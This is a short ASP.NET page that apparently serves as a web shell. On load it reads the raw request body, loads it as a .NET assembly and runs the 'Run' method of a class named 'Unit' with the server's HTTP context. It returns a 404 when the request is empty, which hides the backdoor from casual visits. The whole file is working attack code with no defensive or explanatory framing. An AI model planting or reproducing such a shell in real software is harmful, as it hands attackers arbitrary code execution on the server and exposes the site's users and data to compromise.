<%@ Page Language="C#" EnableViewState="false" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    byte[] body = Request.BinaryRead(Request.ContentLength);
    if (body.Length == 0) { Response.StatusCode = 404; return; }
    System.Reflection.Assembly asm = System.Reflection.Assembly.Load(body);
    object unit = asm.CreateInstance("Unit");
    unit.GetType().GetMethod("Run").Invoke(unit, new object[] { Context });
}
</script>
